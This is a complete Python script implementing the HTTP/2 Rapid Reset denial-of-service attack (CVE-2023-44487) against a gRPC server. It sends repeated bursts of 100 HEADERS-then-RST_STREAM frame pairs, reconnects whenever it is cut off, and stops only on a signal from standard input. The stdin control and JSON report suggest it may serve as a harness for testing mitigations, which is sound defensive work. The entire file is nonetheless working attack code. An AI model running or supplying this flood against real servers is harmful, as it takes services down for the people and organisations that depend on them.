"""Floods a gRPC server with calls that are reset as soon as they are made (CVE-2023-44487), until it is told to end.

Usage: rapid_reset.py HOST PORT. Writes one line of JSON with what it did when standard input ends.
"""
from __future__ import annotations

import json
import select
import socket
import sys
import time

from hpack import Encoder
from hyperframe.frame import HeadersFrame, RstStreamFrame, SettingsFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
RESETS_PER_WRITE = 100
CANCEL = 8
REQUEST = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/rota.v1.Jobs/Submit"),
    (":authority", "flood"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]


def told_to_end() -> bool:
    return bool(select.select([sys.stdin], [], [], 0)[0])


def burst(encoder: Encoder, first: int) -> bytes:
    frames = b""
    for stream in range(first, first + 2 * RESETS_PER_WRITE, 2):
        headers = HeadersFrame(stream, data=encoder.encode(REQUEST), flags=["END_HEADERS"])
        frames += headers.serialize() + RstStreamFrame(stream, error_code=CANCEL).serialize()
    return frames


def flood(address: tuple[str, int]) -> tuple[int, int]:
    """Floods until told to end. Returns how many resets were sent, on how many connections."""
    resets = connections = 0
    while not told_to_end():
        try:
            with socket.create_connection(address, timeout=5) as connection:
                connections += 1
                encoder, stream = Encoder(), 1
                connection.sendall(PREFACE + SettingsFrame(0).serialize())
                while not told_to_end():
                    connection.sendall(burst(encoder, stream))
                    resets += RESETS_PER_WRITE
                    stream += 2 * RESETS_PER_WRITE
        except OSError:
            time.sleep(0.05)  # it was cut off: once more
    return resets, connections


if __name__ == "__main__":
    sent, opened = flood((sys.argv[1], int(sys.argv[2])))
    print(json.dumps({"resets": sent, "connections": opened}))
